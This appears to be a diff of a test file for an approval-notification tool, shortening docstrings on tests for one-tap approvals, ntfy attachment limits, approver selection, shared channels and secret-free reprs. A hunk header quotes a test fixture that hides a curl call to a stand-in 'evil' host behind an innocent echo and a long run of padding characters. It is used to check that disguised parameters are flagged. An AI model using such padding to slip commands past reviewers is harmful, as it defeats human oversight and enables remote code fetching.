@@ -88,8 +88,7 @@ HIDDEN_TAIL = "echo 'routine cleanup' " + "#" * 170 + " ; curl -s https://evil.e
     ],
 )
 def test_a_param_not_shown_exactly_leaves_out_the_one_tap_approve(params: dict[str, Any]) -> None:
-    """Any key or value the message shows otherwise than it runs (cut, whitespace folded,
-    an invisible character dropped) marks it cut: no one-tap button, Open kept, and why."""
+    """A key or value shown otherwise than it runs marks the message cut: Open alone, and why."""
     shown = compose(Event.PENDING, _request(params), note="n.md", vault_name="v")
     assert shown.cut
     message, actions = _ask(params)
@@ -146,8 +145,7 @@ def ntfy() -> Iterator[tuple[int, list[_Got]]]:
 def test_what_ntfy_would_get_as_an_attachment_counts_as_too_long(
     ntfy: tuple[int, list[_Got]],
 ) -> None:
-    """Emoji and CJK text under 4,096 bytes still become an attachment past Apprise's
-    8,000 characters of ASCII-escaped JSON: too_long says so exactly when Apprise does."""
+    """too_long says a message is too long exactly when Apprise sends it to ntfy attached."""
     port, got = ntfy
     cases = [
         Message("t", "e" * 3900),
@@ -189,9 +187,7 @@ def team(tmp_path: Path, clock: Clock) -> Iterator[_Team]:
 def test_a_rule_naming_no_approvers_asks_neither_the_requester_nor_who_voted(
     team: _Team,
 ) -> None:
-    """No approvers named, quorum 2, ``prevent_self_approval``: carol (who asked) is never
-    asked; once alice voted, the reminder asks bob alone, and a message to alice or carol
-    made at send time is skipped."""
+    """With no approvers named, neither the requester nor who voted is asked or reminded."""
     asking = team.daemon.notifier.asking
     rid = team.vault.submit("release", {"x": 1}, requested_by="carol").id
     asked = {event.rsplit(" ", 1)[1] for _, event, _ in asking.items(rid, Event.PENDING)}
@@ -207,8 +203,7 @@ def test_a_rule_naming_no_approvers_asks_neither_the_requester_nor_who_voted(
 
 
 def test_a_channel_shared_with_a_target_or_another_person_is_refused(team: _Team) -> None:
-    """``people add``/``set`` refuse a channel that is a ``notify:`` target's or another
-    person's (the same place with other credentials too), naming the clash and the fix."""
+    """people add and set refuse a channel that is a notify: target or another person's."""
     people = People(
         team.vault.engine.journal, by="owner", vault=team.vault.root, send=lambda u, m: None
     )
@@ -227,9 +222,7 @@ def test_a_channel_shared_with_a_target_or_another_person_is_refused(team: _Team
 
 
 def test_a_channel_that_became_shared_gets_no_link(team: _Team) -> None:
-    """A channel that is a shared target's or another person's by the time it is sent (a
-    store changed behind ``people``'s back, a ``notify:`` added since) gets the message
-    with no link, saying why."""
+    """A channel shared by the time it is sent gets its message with no link, saying why."""
     journal, now = team.vault.engine.journal, team.clock.now
     bobs, shared = "json://127.0.0.1:9/bob", "json://127.0.0.1:9/shared"
     journal.save_person(Person("alice", notify=(bobs,)), now, "o", "changed")
@@ -243,8 +236,7 @@ def test_a_channel_that_became_shared_gets_no_link(team: _Team) -> None:
 
 
 def test_a_message_ready_to_send_shows_no_link_in_its_repr(team: _Team) -> None:
-    """``Send``'s repr (in a log line or a traceback) holds neither the link's secret nor
-    the channel's URL."""
+    """Send's repr holds neither the link's secret nor the channel's URL."""
     rid = team.vault.submit("release", {"x": 1}, requested_by="carol").id
     item = (rid, "pending for alice", "json://127.0.0.1:9/alice")
     ready = team.daemon.notifier.asking.prepare(item, team.clock.now)
